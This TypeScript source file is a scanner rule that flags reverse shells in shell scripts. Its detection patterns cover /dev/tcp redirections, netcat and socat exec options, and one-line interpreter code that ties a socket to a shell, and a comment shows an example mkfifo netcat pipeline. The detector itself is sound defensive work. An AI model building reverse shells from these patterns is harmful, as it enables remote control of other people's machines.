import { executionOf } from './execution.ts'
import type { Problem } from './problem.ts'
import { endWith, type ScriptReading, type Step } from './step.ts'

const DEVICE = /^["']?\/dev\/(?:tcp|udp)\//
const NETCAT: ReadonlySet<string> = new Set(['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd'])
const RUNS_PROGRAM = /^(?:-[a-z]{0,8}[ec]|--exec|--sh-exec|-e\/.{1,100}|-c\/.{1,100})$/
const SHELL_PATH = /(?:^|[\s/:=])(?:ba|z|da|k|a)?sh\b|cmd(?:\.exe)?$|powershell/
const SOCAT_RUNS = /(?:^|,)(?:exec|system):/i
const SOCAT_NETWORK = /^(?:tcp|udp|openssl|sctp)\d?(?:-connect)?:/i
/** Code of one line that ties a socket to a shell: each of these words. */
const CODE_PARTS: readonly RegExp[] = [
  /\bsocket\b|\bfsockopen\b|\bTCPSocket\b|\bnet\.connect\b|IO::Socket/i,
  /\bdup2\b|\bpty\.spawn\b|\bexec\b|\bSTDIN\b|\bspawn\b|\bchild_process\b/,
  /\bsh\b/,
]

/** UTF-16 code units of the last stages in front of a connection. */
const MAX_STAGE = 300
const NETCAT_STAGE = /(?:^|\s|\/)(?:nc|ncat|netcat)\s/
const SHELL_STAGE = /\|\s{0,5}(?:\/[\w/]{1,40}\/)?(?:ba|z|da)?sh\b/

/** A shell whose commands come from another machine. */
export function* reverseShells({ steps, text }: ScriptReading): Generator<Problem> {
  let pipe: Step | undefined
  let attached = false
  for (const step of steps) {
    const { command } = step
    const range = { start: command.start, end: endWith(step) }
    const streams = command.redirections ?? []
    const toDevice = streams.some(({ target }) => DEVICE.test(target.value))
    const isShell = executionOf(step) !== undefined && !['eval', 'source', '.'].includes(step.name)
    if (step.name === 'exec' || command.words[0]?.value === 'exec') attached ||= toDevice
    if (step.name === 'mkfifo' || (step.name === 'mknod' && step.words.some(({ value }) => value === 'p'))) {
      pipe = step
    }
    const isReverse =
      (toDevice && isShell) ||
      (attached &&
        (isShell || step.program.dynamic) &&
        streams.some(({ target }) => /^\d{1,3}$/.test(target.value))) ||
      runsShell(step) ||
      (NETCAT.has(step.name) && pipe !== undefined && isFedBy(text, step, SHELL_STAGE)) ||
      (isShell && pipe !== undefined && isFedBy(text, step, NETCAT_STAGE)) ||
      isCode(step)
    if (isReverse) yield { ...range, rule: 'shell/reverse-shell', severity: 'critical', identity: step.name }
  }
}

function runsShell({ name, words }: Step): boolean {
  if (name === 'socat') {
    const runs = words.some(({ value }) => SOCAT_RUNS.test(value) && SHELL_PATH.test(value))
    return runs && words.some(({ value }) => SOCAT_NETWORK.test(value))
  }
  if (!NETCAT.has(name)) return false
  const at = words.findIndex(({ value }) => RUNS_PROGRAM.test(value))
  return at !== -1 && [words[at], words[at + 1]].some((word) => SHELL_PATH.test(word?.value ?? ''))
}

/** `cat pipe | sh -i 2>&1 | nc host port > pipe`. */
function isFedBy(text: string, { command }: Step, stage: RegExp): boolean {
  const { input } = command
  return (
    input !== undefined && stage.test(text.slice(Math.max(input.start, input.end - MAX_STAGE), input.end))
  )
}

function isCode({ name, words }: Step): boolean {
  if (!/^(?:python|perl|ruby|php|node|lua)/.test(name)) return false
  const at = words.findIndex(({ value }) => /^-[a-zA-Z]{0,4}[cer]$/.test(value))
  const code = at === -1 ? undefined : words[at + 1]?.value
  return code !== undefined && CODE_PARTS.every((part) => part.test(code))
}
